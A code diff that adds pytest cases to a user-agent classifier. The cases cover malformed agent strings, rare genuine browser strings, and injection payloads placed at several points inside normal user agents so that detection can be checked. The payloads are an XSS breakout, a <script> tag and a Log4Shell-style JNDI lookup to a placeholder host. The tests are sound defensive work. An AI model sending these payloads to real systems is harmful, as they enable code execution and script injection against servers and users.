@@ -54,6 +54,64 @@ def test_what_people_read_with_is_no_machine(agent):
     assert verdict(agent).cls == "human"
 
 
+LINUX = "Mozilla/5.0 (X11; Linux {}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0"
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [
+        CHROME.replace("(Windows", "(Windows:"),
+        IPHONE.replace("(iPhone; CPU iPhone OS 18_6 like", "(Macintosh: Intel"),
+        f"{LINUX.format('x188_64')} Safari/537.36",
+        f"{LINUX.format('x92_64')} Safari/537.36",
+        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; {}; SV1)",
+        CHROME.replace("Mozilla/5.0", "Mozilla/7.4"),
+        CHROME.replace("Chrome", "DownloaderChrome"),
+        f"{CHROME} Example/1598937205",
+        f"{CHROME} Example/1710630666672",
+    ],
+)
+def test_what_no_browser_writes_is_no_browsers(agent):
+    assert verdict(agent).signals == ("malformed",)
+
+
+@pytest.mark.parametrize(
+    "agent",
+    [
+        "Mozilla/5.0 (Linux; arm_64; Android 14; V30) AppleWebKit/537.36 (KHTML, like Gecko)"
+        " Chrome/134.0.6998.261 YaBrowser/25.4.0.261.00 SA/3 Mobile Safari/537.36",
+        f"{LINUX.format('x64_64')} Safari/537.36",
+        f"{LINUX.format('armv8l')} Safari/537.36",
+        f"{CHROME} Nichrome/self/27",
+        f"{IPHONE} Version/10.3 Safari/8536.25 Mobicip/1882608256",
+        "Mozilla/5.0 (Linux: U; Android 2.3.6;en-us; M920 Build/GINGERBREAD) AppleWebKit/533.1"
+        " (KHTML, like Gecko) Version/4.0 Mobile Safari/533.1",
+        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; {6BD3E7C1-0732-43E8-8828})",
+    ],
+)
+def test_what_a_rare_browser_writes_is_a_browsers(agent):
+    assert verdict(agent).cls == "human"
+
+
+@pytest.mark.parametrize("attack", ["';alert(/x/);//", "${jndi:ldap://x.example/a}", "<script>"])
+@pytest.mark.parametrize(
+    ("browser", "place"),
+    [
+        (CHROME, "NT 10.0"),
+        (CHROME, "Chrome/139.0.0.0"),
+        (f"{CHROME} Edg/139.0.0.0", "Edg/139.0.0.0"),
+        (f"{LINUX.format('x86_64')} Safari/537.36", "x86_64"),
+        ("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "rv:140.0"),
+        ("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "Firefox/140.0"),
+        (f"{IPHONE.replace('Mobile', 'Version/18.6 Mobile')} Safari/604.1", "Safari/604.1"),
+        (f"{IPHONE.replace('Mobile', 'Version/18.6 Mobile')} Safari/604.1", "OS 18_6"),
+    ],
+)
+def test_an_attack_is_found_wherever_a_browsers_string_holds_it(browser, place, attack):
+    assert verdict(browser).cls == "human"
+    assert "injection" in verdict(browser.replace(place, place + attack)).signals
+
+
 @pytest.mark.parametrize(
     "agent",
     [
